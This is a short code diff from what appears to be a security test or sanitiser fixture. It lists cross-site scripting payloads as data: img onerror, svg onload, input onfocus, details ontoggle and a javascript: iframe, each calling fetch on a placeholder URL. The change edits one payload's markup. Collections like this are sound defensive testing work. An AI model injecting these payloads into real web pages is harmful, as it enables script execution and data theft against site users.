@@ -124,7 +124,7 @@ _HTML = (
     _form("error handler", "<img src='data:,' onerror=\"fetch('URL')\">"),
     _form("load handler", "<svg onload=\"fetch('URL')\"></svg>"),
     _form("focus handler", "<input autofocus onfocus=\"fetch('URL')\">"),
-    _form("toggle handler", "<details open ontoggle=\"fetch('URL')\"><summary>x</summary></details>"),
+    _form("toggle handler", "<details open ontoggle=\"fetch('URL')\"><p>x</p></details>"),
     _form("javascript frame", "<iframe src=\"javascript:fetch('URL')\"></iframe>"),
 )  # fmt: skip
 _ESCAPES = (
